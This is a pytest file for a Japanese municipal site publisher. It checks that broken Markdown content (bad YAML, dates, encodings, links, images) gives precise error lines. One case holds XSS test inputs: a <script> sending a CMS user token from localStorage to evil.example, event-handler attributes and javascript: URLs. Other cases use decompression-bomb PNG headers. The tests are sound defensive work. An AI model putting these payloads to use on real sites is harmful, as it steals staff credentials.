"""`publisher check` and `mkdocs build` on broken content: every problem at once, as `path:line: message`.

Each case is a small real project (a good site plus one broken part), checked by `publisher check`
called in-process and built by the real `mkdocs` console script (slow). Line numbers count the
opening `---` as line 1; every path is the one staff see in the repository, starting with
`content/`.
"""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from conftest import MINIMAL_CONFIG, cli, mkdocs_build, publisher, write_project
from PIL import Image


def stopped(lines: list[str]) -> list[str]:
    """Problems that stop the other checks of their file, and say so."""
    return [line + HIDDEN for line in lines]


def md(*lines: str) -> str:
    """A file from its lines, so that line N of the file is argument N."""
    return "\n".join(lines) + "\n"


def png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (16, 9), (30, 120, 200)).save(buffer, "PNG")
    return buffer.getvalue()


def png_header(width: int, height: int) -> bytes:
    """A PNG whose header claims this size (its pixels are cut off): enough for anything that
    reads the header first, as a build and the check do before decoding."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 1000)  # the first rows only
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def truncated_jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise((640, 480), 64).convert("RGB").save(buffer, "JPEG", quality=90)
    return buffer.getvalue()[: buffer.tell() // 2]


def news(*front: str, body: tuple[str, ...] = ("本文です。",), date: str = "2026-04-01") -> str:
    """A news item: title (line 2), date (line 3), categories (line 4), then `front` from line 5."""
    return md("---", "title: お知らせ", f"date: {date}", "categories: [kurashi]", *front, "---", *body)


GOOD = {
    "index.md": md("---", "title: ホーム", "---", "ようこそ。"),
    "images/photo.png": png(),
    "kurashi/gomi.md": md(
        "---",
        "title: ごみの出し方",
        "---",
        "![ごみ集積所](../images/photo.png)",
        "",
        "[窓口の時間](../news/2026/open.md)と[お知らせ一覧](../news/index.md)",
    ),
    "news/2026/open.md": md(
        "---",
        "title: 窓口の時間",
        "date: 令和8年4月1日 10時",
        "categories: [kurashi]",
        "image: ../../images/photo.png",
        "image_alt: 役場の窓口",
        "---",
        "[ごみの出し方](../../kurashi/gomi.md)",
    ),
    "events/2026/matsuri.md": md(
        "---",
        "title: 夏祭り",
        "date: 2026-05-01",
        "categories: [kanko]",
        "start: 2026年7月4日(土) 10:00",
        "end: 15:00",
        "place: 町民広場",
        "---",
        "どなたでも。",
    ),
    "alerts/typhoon.md": md(
        "---", "title: 台風に備えて", "date: 2026-09-01 08:00", "level: warning", "---", "備えましょう。"
    ),
}

HIDDEN = "。ほかの問題はこれを直すと表示されます"  # a problem after which the file's other checks cannot run
P = "content/"  # every path in messages is relative to the repository (the folder of mkdocs.yml)
YAML = "設定（フロントマター）の書き方が正しくありません: "
NOT_UTF8 = "文字コードが UTF-8 ではありません（{}で保存されています）。UTF-8 で保存し直してください"
UNREADABLE = "を読み取れません（例: 2026-04-01 10:00、2026/4/1、令和8年4月1日 10時）"
JA_TEXT = md("---", "title: 秋の説明会", "date: 2026-04-01", "categories: [kurashi]", "---", "本文です。")

HTML_GUIDE = "（使える HTML は docs/staff-guide.md の「本文に書ける HTML」にあります）"
NO_URL = (
    "というアドレスは使えません。リンクと画像には https:// で始まるアドレス"
    "（mailto: と tel: も可）か、content/ の中のファイルを書いてください"
)
# name: (files added to the good site, every line `publisher check` must print)
TEMPLATE = (
    "ひな形の文「{}」が残っています。この行を消して、住民に伝える内容を書いてください"
    "（まだ公開しないなら draft: true を書いて下書きにします）"
)
SUFFIX = "のファイルは検査されずに公開されてしまいます。拡張子を小文字の .md にしてください"
CASES = {
    "template_text_left": (  # what `publisher new` writes, published as it was: refused (a draft may keep it)
        {
            "news/2026/template.md": news(
                body=("ここに本文を書きます。最初の段落は一覧や SNS の概要に使われます。",)
            ),
            "kurashi/template.md": md(
                "---",
                "title: 新しいページ",
                "---",
                "ここにページの本文を書きます。",
                "",
                "## 見出し",
                "",
                "本文です。",
            ),
            "events/2026/template.md": md(
                "---",
                "title: 教室",
                "date: 2026-04-01",
                "categories: [kanko]",
                "start: 2026-07-04 10:00",
                "place: 公民館",
                "draft: true",
                "---",
                "ここにイベントの内容を書きます。",
            ),
        },
        [
            f"{P}news/2026/template.md:6: {TEMPLATE.format('ここに本文を書きます。最初の段落は一覧や SNS の概要に使われます。')}",
            f"{P}kurashi/template.md:4: {TEMPLATE.format('ここにページの本文を書きます。')}",
            f"{P}kurashi/template.md:6: {TEMPLATE.format('## 見出し')}",
        ],
    ),
    "markdown_suffix": (  # MkDocs renders .markdown too: a draft would go out unchecked
        {
            "news/2026/draft.markdown": md(
                "---",
                "title: 組織改編",
                "date: 2026-04-01",
                "categories: [kurashi]",
                "draft: true",
                "---",
                "検討中の内容です。",
            )
        },
        [f"{P}news/2026/draft.markdown: 拡張子「.markdown」{SUFFIX}"],
    ),
    "yaml_full_width_colon": (  # read as meant, so the other problems of the file show at once
        {
            "news/2026/wide.md": md(
                "---", "title：町内で説明会", "date: 2026-13-01", "categories: [スポーツ]", "---"
            )
        },
        [
            f"{P}news/2026/wide.md:2: {YAML}項目名の後ろの「：」（全角）を半角の「:」に直してください",
            f"{P}news/2026/wide.md:3: date（掲載日）: 日付「2026-13-01」: 13月はありません",
            f"{P}news/2026/wide.md:4: categories（分類）: 分類「スポーツ」は登録されていません。"
            "使える分類: kurashi（くらし）、kanko（観光）",
        ],
    ),
    "yaml_full_width_colon_and_another_syntax_error": (  # cannot be read as meant: stops the file
        {
            "news/2026/wide-and-colon.md": md(
                "---", "title：町内で説明会", "summary: 時間: 午後", "date: 2026-13-01", "---"
            ),
            "news/2026/wide-unknown-key.md": md(
                "---", "title: 町内で説明会", "titel：説明会", "date: 2026-13-01", "---"
            ),
        },
        stopped(
            [
                f"{P}news/2026/wide-and-colon.md:2: {YAML}項目名の後ろの「：」（全角）を半角の「:」に直してください",
                f"{P}news/2026/wide-unknown-key.md:3: {YAML}項目名の後ろの「：」（全角）を半角の「:」に直してください",
            ]
        ),
    ),
    "yaml_full_width_space_after_colon": (
        {
            "news/2026/wide-space.md": md(
                "---", "title:\u3000町内で説明会", "date: 2026-04-01", "categories: [kurashi]", "---"
            )
        },
        [
            f"{P}news/2026/wide-space.md:2: {YAML}「:」の後ろの空白を半角の空白に直してください（全角の空白になっています）"
        ],
    ),
    "yaml_no_space_after_colon": (  # YAML blamed the next line and advised quoting
        {  # read as meant, so the checks of the body run in the same run too (the template text)
            "news/2026/nospace.md": md(
                "---",
                "title:水道管の工事",
                "date:2026-04-01",
                "categories: [kurashi]",
                "---",
                "ここに本文を書きます。最初の段落は一覧や SNS の概要に使われます。",
            )
        },
        [
            *(
                f"{P}news/2026/nospace.md:{line}: {YAML}「:」と値の間に半角の空白を入れてください（例: title: 水道管の工事）"
                for line in (2, 3)
            ),
            f"{P}news/2026/nospace.md:6: {TEMPLATE.format('ここに本文を書きます。最初の段落は一覧や SNS の概要に使われます。')}",
        ],
    ),
    "yaml_value_starts_like_a_list_or_quote": (  # YAML speaks of indentation here
        {
            "news/2026/bracket.md": md(
                "---", "title: [重要] 断水のお知らせ", "date: 2026-04-01", "categories: [kurashi]", "---"
            ),
            "news/2026/quote.md": md(
                "---", 'title: "重要" 補助金', "date: 2026-04-01", "categories: [kurashi]", "---"
            ),
        },
        stopped(
            [
                f'{P}news/2026/bracket.md:2: {YAML}「[」で始まる値は、値全体を "…" で囲んでください（例: title: "[重要] 断水のお知らせ"）',
                f'{P}news/2026/quote.md:2: {YAML}値が " で始まり、閉じた後にも文字が続いています。中の " を「」に変えてください'
                "（例: title: 「重要」補助金のお知らせ）",
            ]
        ),
    ),
    "space_in_a_link": (  # Markdown would end the address at the space: a broken picture
        {
            "news/2026/space.md": news(body=("![会場の写真](../../images/会場 写真.jpg)",)),
            "images/会場 写真.jpg": png(),
            "news/2026/titled.md": news(body=('![ごみ集積所](../../images/photo.png "集積所の写真")',)),
        },
        [
            f"{P}news/2026/space.md:6: 画像「../../images/会場 写真.jpg」の名前に空白があります。空白のない名前にするか、空白を %20 と書いてください"
        ],
    ),
    "folder_name": (
        {"観光 情報/spot.md": md("---", "title: 見どころ", "---", "楽山園です。")},
        [
            f"{P}観光 情報/spot.md:1: フォルダ名「観光 情報」は URL になるため、半角英小文字・数字・ハイフンだけで付けてください（例: kanko）"
        ],
    ),
    "yes_is_not_true": (  # only true and false are booleans: a title "No" stays "No"
        {"news/2026/yes.md": news("draft: yes")},
        [f"{P}news/2026/yes.md:5: draft（下書き）: 「yes」ではなく true か false で書いてください"],
    ),
    "control_character": (  # invisible in an editor; feeds (XML) cannot carry it
        {"news/2026/vt.md": news(body=("古民家\x0bの改修",))},
        stopped(
            [f"{P}news/2026/vt.md:6: 見えない制御文字（U+000B）が含まれています。その行を書き直してください"]
        ),
    ),
    "conflict_markers": (
        {
            "news/2026/conflict.md": news(
                body=(
                    "<<<<<<< HEAD",
                    "締切は5月10日です。",
                    "=======",
                    "締切は5月20日です。",
                    ">>>>>>> update",
                )
            )
        },
        stopped(
            [
                f"{P}news/2026/conflict.md:6: 編集がぶつかった印（<<<<<<< と >>>>>>>）が残っています。残す内容を決めて、"
                "印の行（<<<<<<<、=======、>>>>>>>）を消してください"
            ]
        ),
    ),
    "yaml_sign": (
        {
            "news/2026/sign.md": md(
                "---", "title: !重要 断水のお知らせ", "date: 2026-04-01", "categories: [kurashi]", "---"
            ),
            "news/2026/block.md": md(
                "---", "title: >重要 断水", "date: 2026-04-01", "categories: [kurashi]", "---"
            ),
        },
        stopped(
            [
                f'{P}news/2026/{name}.md:2: {YAML}「!」「&」「>」「|」などの記号で始まる値は、値全体を "…" で囲んでください'
                for name in ("sign", "block")
            ]
        ),
    ),
    "image_format": (  # a TIFF or a phone's HEIC: most browsers show nothing
        {
            "news/2026/tif.md": news(body=("![会場の写真](../../images/hall.tif)",)),
            "images/hall.tif": b"II*\x00",
        },
        [
            f"{P}news/2026/tif.md:6: 画像「../../images/hall.tif」はホームページで表示できない形式です。JPEG か PNG で保存し直してください"
        ],
    ),
    "date_past_9999": (
        {"news/2026/far.md": news("expire_at: 9999-12-31 23:59 -05:00")},
        [
            f"{P}news/2026/far.md:5: expire_at（掲載終了日時）: 日時「9999-12-31 23:59 -05:00」は扱える範囲（9999年12月31日まで）を超えています"
        ],
    ),
    "generated_address": (  # the search page and the news listing would silently replace them
        {
            "search.md": md("---", "title: サイト内検索について", "---", "使い方です。"),
            "news.md": md("---", "title: お知らせについて", "---", "説明です。"),
        },
        [
            f"{P}{name}.md:1: この URL（/{name}/）には自動で作られるページがあるため、このページは公開されません。ファイル名を変えてください"
            for name in ("search", "news")
        ],
    ),
    "upper_case_md": (  # MkDocs copies .MD as it is, front matter and all
        {"kurashi/shinki.MD": md("---", "title: 新しいページ", "---", "本文です。")},
        [f"{P}kurashi/shinki.MD: 拡張子「.MD」{SUFFIX}"],
    ),
    "yaml_colon_in_value": (
        {
            "news/2026/yaml-colon.md": md(
                "---", "date: 2026-04-01", "title: 説明会: 午後の部", "categories: [kurashi]", "---"
            )
        },
        stopped(
            [f'{P}news/2026/yaml-colon.md:3: {YAML}値の中に「: 」があります。値全体を "…" で囲んでください']
        ),
    ),
    "yaml_unclosed_quote": (
        {
            "news/2026/yaml-quote.md": md(
                "---", "date: 2026-04-01", 'title: "説明会', "categories: [kurashi]", "---"
            )
        },
        stopped([f"{P}news/2026/yaml-quote.md:3: {YAML}引用符 \" や ' が閉じられていません"]),
    ),
    "yaml_tab_indent": (
        {
            "news/2026/yaml-tab.md": md(
                "---", "title: x", "date: 2026-04-01", "categories:", "\t- kurashi", "---"
            )
        },
        stopped(
            [
                f"{P}news/2026/yaml-tab.md:5: {YAML}行頭や値の先頭に使えない文字（タブ、@、` など）があります。"
                'タブは空白に直し、記号で始まる値は "…" で囲んでください'
            ]
        ),
    ),
    "yaml_bad_indent": (
        {
            "news/2026/yaml-indent.md": md(
                "---", "title: x", "  date: 2026-04-01", "categories: [kurashi]", "---"
            )
        },
        stopped([f"{P}news/2026/yaml-indent.md:3: {YAML}字下げ（行頭の空白）がそろっていません"]),
    ),
    "yaml_unclosed_list": (
        {"news/2026/yaml-list.md": md("---", "title: x", "categories: [kurashi", "date: 2026-04-01", "---")},
        stopped([f"{P}news/2026/yaml-list.md:3: {YAML}「[」で始めた一覧が「]」で閉じられていません"]),
    ),
    "yaml_key_twice": (
        {"news/2026/yaml-twice.md": news("title: もう一つ")},
        stopped([f"{P}news/2026/yaml-twice.md:5: 項目「title」が2回書かれています"]),
    ),
    "front_matter_not_closed": (
        {"kurashi/open-ended.md": md("---", "title: x", "本文")},
        stopped(
            [
                f"{P}kurashi/open-ended.md:1: 先頭の「---」で始まる設定（フロントマター）が「---」で閉じられていません"
            ]
        ),
    ),
    "missing_title": (
        {"news/2026/no-title.md": md("---", "date: 2026-04-01", "categories: [kurashi]", "---", "本文")},
        [f"{P}news/2026/no-title.md:1: title（タイトル）を書いてください"],
    ),
    "empty_title": (
        {"kurashi/empty-title.md": md("---", "title:", "---", "本文")},
        [f"{P}kurashi/empty-title.md:2: title（タイトル）が空です"],
    ),
    "missing_news_date": (
        {"news/2026/no-date.md": md("---", "title: x", "categories: [kurashi]", "---", "本文")},
        [f"{P}news/2026/no-date.md:1: date（掲載日）を書いてください"],
    ),
    "missing_event_start_and_place": (
        {
            "events/2026/no-start.md": md(
                "---", "title: x", "date: 2026-04-01", "categories: [kanko]", "---", "本文"
            )
        },
        [
            f"{P}events/2026/no-start.md:1: place（場所）を書いてください",
            f"{P}events/2026/no-start.md:1: start（開始日時）か dates（開催日の一覧）を書いてください",
        ],
    ),
    "event_end_unreadable": (  # was reported twice: once read, once again as the sitting's end
        {
            "events/2026/noon.md": md(
                "---",
                "title: 教室",
                "date: 2026-04-01",
                "categories: [kanko]",
                "start: 2026-07-04 10:00",
                "end: 正午",
                "place: 公民館",
                "---",
            )
        },
        [f"{P}events/2026/noon.md:6: end（終了日時）: 日付「正午」{UNREADABLE}"],
    ),
    "event_end_zero": (  # a value YAML reads as false (0, false, []) was reported twice too
        {
            "events/2026/zero.md": md(
                "---",
                "title: 教室",
                "date: 2026-04-01",
                "categories: [kanko]",
                "start: 2026-07-04 10:00",
                "end: 0",
                "place: 公民館",
                "---",
            )
        },
        [f"{P}events/2026/zero.md:6: end（終了日時）: 日付「0」{UNREADABLE}"],
    ),
    "missing_alert_level": (
        {"alerts/no-level.md": md("---", "title: x", "date: 2026-04-01", "---", "本文")},
        [f"{P}alerts/no-level.md:1: level（緊急度）を書いてください"],
    ),
    "unknown_field": (
        {
            "news/2026/titel.md": md(
                "---", "title: x", "titel: y", "date: 2026-04-01", "categories: [kurashi]", "---"
            )
        },
        [f"{P}news/2026/titel.md:3: 「titel」という項目はありません（title の書き間違いではありませんか）"],
    ),
    "field_of_another_kind": (
        {"news/2026/with-place.md": news("place: 役場")},
        [f"{P}news/2026/with-place.md:5: 「place」（場所）はお知らせでは使えません"],
    ),
    "unknown_category": (
        {
            "news/2026/sports.md": md(
                "---", "title: x", "date: 2026-04-01", "categories: [kurashi, スポーツ]", "---"
            )
        },
        [
            f"{P}news/2026/sports.md:4: categories（分類）: 分類「スポーツ」は登録されていません。"
            "使える分類: kurashi（くらし）、kanko（観光）"
        ],
    ),
    "month_13": (
        {"news/2026/month13.md": news(date="2026-13-01")},
        [f"{P}news/2026/month13.md:3: date（掲載日）: 日付「2026-13-01」: 13月はありません"],
    ),
    "reiwa_0": (
        {"news/2026/reiwa0.md": news(date="令和0年4月1日")},
        [
            f"{P}news/2026/reiwa0.md:3: date（掲載日）: 日付「令和0年4月1日」: 令和0年はありません（元年は 1 年です）"
        ],
    ),
    "february_30": (
        {"news/2026/feb30.md": news(date="2026年2月30日")},
        [f"{P}news/2026/feb30.md:3: date（掲載日）: 日付「2026年2月30日」: 2月30日は存在しません"],
    ),
    "wrong_weekday": (
        {"news/2026/weekday.md": news(date="2026年4月1日(月)")},
        [
            f"{P}news/2026/weekday.md:3: date（掲載日）: 日付「2026年4月1日(月)」: 4月1日は水曜日です（月曜日と書かれています）"
        ],
    ),
    "unreadable_date": (
        {"news/2026/someday.md": news(date="来年の春ごろ")},
        [f"{P}news/2026/someday.md:3: date（掲載日）: 日付「来年の春ごろ」{UNREADABLE}"],
    ),
    "event_end_before_start": (
        {
            "events/2026/end-early.md": md(
                "---",
                "title: x",
                "date: 2026-04-01",
                "categories: [kanko]",
                "start: 2026-05-01 10:00",
                "end: 9:00",
                "place: 役場",
                "---",
            )
        },
        [f"{P}events/2026/end-early.md:6: end（終了日時）: 終了「9:00」が開始より前になっています"],
    ),
    "event_with_several_problems": (
        {
            "events/2026/many.md": md(
                "---",
                "title: x",
                "date: 2026-04-01",
                "categories: [sports]",
                "start: 2026-02-30 10:00",
                "---",
            )
        },
        [
            f"{P}events/2026/many.md:1: place（場所）を書いてください",
            f"{P}events/2026/many.md:4: categories（分類）: 分類「sports」は登録されていません。使える分類: kurashi（くらし）、kanko（観光）",
            f"{P}events/2026/many.md:5: start（開始日時）: 日付「2026-02-30 10:00」: 2月30日は存在しません",
        ],
    ),
    "shift_jis_file": (
        {"news/2026/sjis.md": JA_TEXT.encode("cp932")},
        stopped([f"{P}news/2026/sjis.md:2: " + NOT_UTF8.format("Shift_JIS（CP932）")]),
    ),
    "euc_jp_file": (
        {"news/2026/eucjp.md": JA_TEXT.encode("euc_jp")},
        stopped([f"{P}news/2026/eucjp.md:2: " + NOT_UTF8.format("EUC-JP")]),
    ),
    "iso_2022_jp_file": (
        {"news/2026/jis.md": JA_TEXT.encode("iso2022_jp")},
        stopped([f"{P}news/2026/jis.md:2: " + NOT_UTF8.format("ISO-2022-JP（JIS）")]),
    ),
    "error_in_bom_crlf_file": (
        {
            "news/2026/bom-error.md": ("\ufeff" + news(date="2026-13-01").replace("\n", "\r\n")).encode(
                "utf-8"
            )
        },
        [f"{P}news/2026/bom-error.md:3: date（掲載日）: 日付「2026-13-01」: 13月はありません"],
    ),
    "duplicate_news_slug": (
        {"news/2025/kouhou.md": news(date="2025-04-01"), "news/2026/kouhou.md": news()},
        [
            f"{P}news/2026/kouhou.md:1: 名前（スラッグ）「kouhou」は {P}news/2025/kouhou.md でも使われています。"
            "お知らせのファイル名は重ならないようにしてください"
        ],
    ),
    "same_url": (
        {
            "machi/annai.md": md("---", "title: 案内", "---"),
            "machi/annai/index.md": md("---", "title: 案内", "---"),
        },
        [
            f"{P}machi/annai.md:1: {P}machi/annai/index.md と同じ URL（/machi/annai/）になります。どちらかの名前を変えてください"
        ],
    ),
    "missing_lead_image": (
        {"news/2026/no-photo.md": news("image: ../../images/nothere.jpg", "image_alt: 会場")},
        [f"{P}news/2026/no-photo.md:5: 画像「{P}images/nothere.jpg」が見つかりません"],
    ),
    "lead_image_without_alt": (
        {"news/2026/no-alt.md": news("image: /images/photo.png")},
        [
            f"{P}news/2026/no-alt.md:5: image_alt（画像の説明）を書いてください。目の不自由な方に読み上げられます"
        ],
    ),
    "body_image_without_alt": (
        {"news/2026/body-alt.md": news(body=("本文です。", "", "![](../../images/photo.png)"))},
        [
            f"{P}news/2026/body-alt.md:8: 画像「../../images/photo.png」に説明（代替テキスト）がありません。"
            "![説明](画像) の形で書いてください"
        ],
    ),
    "missing_body_image": (
        {"news/2026/body-missing.md": news(body=("本文です。", "![地図](map.png)"))},
        [f"{P}news/2026/body-missing.md:7: 画像「map.png」が見つかりません"],
    ),
    "broken_link": (
        {"news/2026/broken-link.md": news(body=("[x](../nothere.md)",))},
        [f"{P}news/2026/broken-link.md:6: リンク先「../nothere.md」のページが見つかりません"],
    ),
    "link_to_draft": (
        {
            "kurashi/plan.md": md("---", "title: 計画（案）", "draft: true", "---", "検討中。"),
            "news/2026/to-draft.md": news(body=("本文です。", "[計画](../../kurashi/plan.md)")),
        },
        [f"{P}news/2026/to-draft.md:7: リンク先「../../kurashi/plan.md」は下書きのため公開されていません"],
    ),
    "directory_link": (
        {"kanko/guide.md": md("---", "title: 観光案内", "---", "[くらし](../kurashi/)")},
        [
            f"{P}kanko/guide.md:4: リンク先「../kurashi/」: ページへのリンクは .md ファイルの場所で書いてください（例: ../kurashi/gomi.md）"
        ],
    ),
    "link_to_a_file_with_its_own_problem": (
        {
            "news/2026/bad-date.md": news(date="2026-02-30"),
            "kanko/refer.md": md("---", "title: 参照", "---", "[お知らせ](../news/2026/bad-date.md)"),
        },
        [f"{P}news/2026/bad-date.md:3: date（掲載日）: 日付「2026-02-30」: 2月30日は存在しません"],
    ),
    "news_without_year_folder": (
        {"news/hello.md": news()},
        [f"{P}news/hello.md:1: お知らせのファイルは news/YYYY/名前.md（YYYY は西暦の年） に置いてください"],
    ),
    "non_ascii_file_name": (
        {"news/2026/お祭り.md": news()},
        [
            f"{P}news/2026/お祭り.md:1: ファイル名「お祭り」は URL になるため、半角英小文字・数字・ハイフンだけで付けてください"
            "（例: gomi-shushu.md）"
        ],
    ),
    "news_index": (
        {"news/index.md": md("---", "title: お知らせ一覧", "---")},
        [
            f"{P}news/index.md:1: news の一覧ページは自動で作られるため、index.md は置けません"
            "（お知らせは news/YYYY/名前.md（YYYY は西暦の年） に置きます）"
        ],
    ),
    "expire_before_publish": (
        {"news/2026/schedule.md": news("publish_at: 2026-05-01 09:00", "expire_at: 2026-04-30")},
        [
            f"{P}news/2026/schedule.md:6: expire_at（掲載終了日時）は publish_at（公開日時）より後の日時にしてください"
        ],
    ),
    "html_script_and_handlers": (  # one staff account must never run script on the site
        {
            "news/2026/script.md": news(
                body=(
                    "本文です。",
                    "",
                    "<script>fetch('https://evil.example/?'+localStorage.getItem('decap-cms-user'))</script>",
                    '<p onclick="alert(1)">押してください</p>',
                    '<iframe src="https://evil.example/"></iframe>',
                    "[詳しく](javascript:alert(1))",
                    '<a href="jav&#x61;script:alert(1)">こちら</a>',
                    '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="図">',
                    '段落です。{: onmouseover="alert(1)" }',
                    "`<script>` と書けばコードとして表示されます。",
                )
            )
        },
        [
            f"{P}news/2026/script.md:8: <script> は本文に書けません{HTML_GUIDE}",
            f"{P}news/2026/script.md:9: <p> の onclick 属性は使えません{HTML_GUIDE}",
            f"{P}news/2026/script.md:10: <iframe> は本文に書けません{HTML_GUIDE}",
            f"{P}news/2026/script.md:11: 「javascript:alert(1)」{NO_URL}",
            f"{P}news/2026/script.md:12: 「javascript:alert(1)」{NO_URL}",
            f"{P}news/2026/script.md:13: 「data:image/svg+xml;base64,PHN2Zz4=」{NO_URL}",
            f"{P}news/2026/script.md:14: 「{{ }}」の中の onmouseover は使えません（使えるのは .クラス名、#id、width、height、title）",
        ],
    ),
    "list_nested_too_deep": (  # Python-Markdown recurses: 1,000 levels exhausted the stack after 53 s
        {"news/2026/deep.md": news(body=tuple("\t" * level + "- 項目" for level in range(25)))},
        [f"{P}news/2026/deep.md:26: リストや引用の入れ子が深すぎます（21 段）。20 段までにしてください"],
    ),
    "quote_nested_too_deep": (
        {"news/2026/quotes.md": news(body=(">" * 1000 + " 引用",))},
        [f"{P}news/2026/quotes.md:6: リストや引用の入れ子が深すぎます（1000 段）。20 段までにしてください"],
    ),
    "body_too_long": (
        {"news/2026/long.md": news(body=("あ" * 600_000,))},
        [
            f"{P}news/2026/long.md:6: 本文が長すぎます（600,001 文字）。500,000 文字までにして、ページを分けてください"
        ],
    ),
    "file_too_large": (
        {"news/2026/large.md": news(body=("a" * 2_100_000,))},
        stopped(
            [
                f"{P}news/2026/large.md:1: ファイルが大きすぎます（2.1 MB）。Markdown は 2 MB までにしてください"
            ]
        ),
    ),
    "too_many_dates": (  # 10,000 dates build in about 10 s (bench/many_dates.py); more is refused
        {
            "events/2026/every-day.md": md(
                "---",
                "title: 毎朝の体操",
                "date: 2026-04-01",
                "categories: [kurashi]",
                "place: 公民館",
                "dates:",
                *(f"  - 2026-07-01 {hour:02d}:{minute:02d}" for hour in range(24) for minute in range(60)),
                *(f"  - 2027-{month:02d}-{day:02d}" for month in range(1, 13) for day in range(1, 29)),
                *(f"  - {year}-05-05" for year in range(2030, 2030 + 8300)),
                "---",
                "毎朝です。",
            )
        },
        [
            f"{P}events/2026/every-day.md:6: dates（開催日の一覧）: 開催日が 10,076 回あります。"
            "10,000 回までにして、イベントを分けてください"
        ],
    ),
    "expire_before_date": (  # was never shown, and nobody was told
        {"news/2026/gone.md": news("expire_at: 2026-03-31")},
        [
            f"{P}news/2026/gone.md:5: expire_at（掲載終了）が date（掲載日）より前なので、"
            "このままでは一度も公開されません。日付を確かめてください"
        ],
    ),
    "front_matter_not_closed_before_a_rule": (  # YAML read on to the rule and blamed a sentence
        {
            "news/2026/rule.md": md(
                "---",
                "title: 閉じ忘れ",
                "date: 2026-04-01",
                "categories: [kurashi]",
                "",
                "一段落目。",
                "",
                "---",
                "二段落目。",
            )
        },
        stopped(
            [
                f"{P}news/2026/rule.md:5: 設定（フロントマター）の書き方が正しくありません: 設定（フロントマター）を閉じる「---」が"
                "ないようです。設定の最後の項目の次の行（この行）に「---」だけの行を書いてください"
            ]
        ),
    ),
}


# Pictures are decoded once the text has no problem (a build stops at text problems first), so
# these are not part of the everything-at-once project below.
TOO_LARGE = "が大きすぎます{}。50 メガピクセルまで（例: 8000×6000）に縮小してから置いてください"
IMAGE_CASES = {
    "image_too_many_pixels": (  # 9400×9400: 277 KB as a PNG, 1.07 GB in a build's memory
        {
            "images/huge.png": png_header(9400, 9400),
            "news/2026/huge.md": news(body=("![町の全景](../../images/huge.png)",)),
        },
        [
            f"{P}news/2026/huge.md:6: 画像「images/huge.png」"
            + TOO_LARGE.format("（9400×9400、88 メガピクセル）")
        ],
    ),
    "image_decompression_bomb": (  # 30000×30000: Pillow itself refuses it; it was called broken
        {
            "images/bomb.png": png_header(30000, 30000),
            "news/2026/bomb.md": news(body=("![地図](../../images/bomb.png)",)),
        },
        [f"{P}news/2026/bomb.md:6: 画像「images/bomb.png」" + TOO_LARGE.format("")],
    ),
    "image_truncated": (  # an upload cut off half-way passed the check
        {
            "images/half.jpg": truncated_jpeg(),
            "news/2026/half.md": news(body=("![祭りの山車](../../images/half.jpg)",)),
        },
        [
            f"{P}news/2026/half.md:6: 画像「images/half.jpg」を読み込めません（壊れているか、画像ではありません）"
        ],
    ),
}
ALL_CASES = CASES | IMAGE_CASES


def problem_lines(output: str) -> list[str]:
    return sorted(line for line in output.splitlines() if line.strip())


@pytest.fixture(scope="module")
def good_project(tmp_path_factory):
    return write_project(tmp_path_factory.mktemp("good"), GOOD)


@pytest.mark.slow  # a real build, and the check as staff run it
def test_good_project_passes_check_and_builds(good_project):
    checked = publisher(good_project, "check")
    assert checked.returncode == 0, checked.output
    assert (
        checked.stdout.strip()
        == "問題はありません（5 ファイル: ページ 2、お知らせ 1、イベント 1、緊急・安全情報 1）"
    )
    built = mkdocs_build(good_project)
    assert built.returncode == 0, built.output
    assert "窓口の時間" in (good_project / "site/news/2026/open/index.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("name", ALL_CASES)
def test_check_reports_the_problem_on_its_line(tmp_path, name):
    files, expected = ALL_CASES[name]
    project = write_project(tmp_path, {**GOOD, **files})
    result = cli(project, "check")
    assert result.returncode == 1, result.output
    assert problem_lines(result.stdout) == sorted(expected)
    assert f"{len(expected)} 件の問題があります" in result.stderr
    assert "Traceback" not in result.output


@pytest.mark.slow  # a real build
@pytest.mark.parametrize("name", ALL_CASES)
def test_mkdocs_build_fails_with_the_same_messages(tmp_path, name):
    files, expected = ALL_CASES[name]
    project = write_project(tmp_path, {**GOOD, **files})
    result = mkdocs_build(project)
    assert result.returncode != 0
    reported = sorted(line.strip() for line in result.output.splitlines() if line.startswith(f"  {P}"))
    assert reported == sorted(expected), result.output
    assert "Traceback" not in result.output
    assert not (project / "site").exists()


@pytest.mark.slow  # a real build, and the check as staff run it
def test_bom_and_crlf_file_is_accepted_and_built(tmp_path):
    text = md(
        "---",
        "title: 改行コードの違うお知らせ",
        "date: 2026-04-01",
        "categories: [kurashi]",
        "---",
        "本文です。",
    )
    project = write_project(
        tmp_path, {**GOOD, "news/2026/windows.md": ("\ufeff" + text.replace("\n", "\r\n")).encode("utf-8")}
    )
    checked = publisher(project, "check")
    assert checked.returncode == 0, checked.output
    built = mkdocs_build(project)
    assert built.returncode == 0, built.output
    assert "改行コードの違うお知らせ" in (project / "site/news/2026/windows/index.html").read_text(
        encoding="utf-8"
    )


@pytest.mark.slow  # a real build
def test_front_matter_our_reader_accepts_is_never_published_as_text(tmp_path):
    """MkDocs' own reader gives up on these (a date YAML cannot construct, a space after the
    closing fence, no newline after it) and would publish the front matter as the page's text;
    a phone number must not be read as an octal number either."""
    files = {
        "events/2026/kenko.md": md(
            "---",
            "title: 健康まつり",
            "date: 2026-05-01",
            "categories: [kanko]",
            "start: 2026-09-06 10:00",
            "place: 総合体育館",
            "apply: 2026-09-31",
            "contact: 0274740121",
            "---",
            "どなたでも。",
        ),
        "news/2026/space.md": "---\ntitle: 補助金のお知らせ\ndate: 2026-04-01\ncategories: [kurashi]\n---\u3000\n本文です。\n",
        "kurashi/iju.md": "---\ntitle: 移住相談窓口\n---",
    }
    project = write_project(tmp_path, {**GOOD, **files})
    built = mkdocs_build(project)
    assert built.returncode == 0, built.output
    site = project / "site"
    for page in ("events/2026/kenko", "news/2026/space", "kurashi/iju"):
        text = (site / page / "index.html").read_text(encoding="utf-8")
        assert "categories:" not in text and "title: " not in text, page
    assert "本文です。" in (site / "news/2026/space/index.html").read_text(encoding="utf-8")
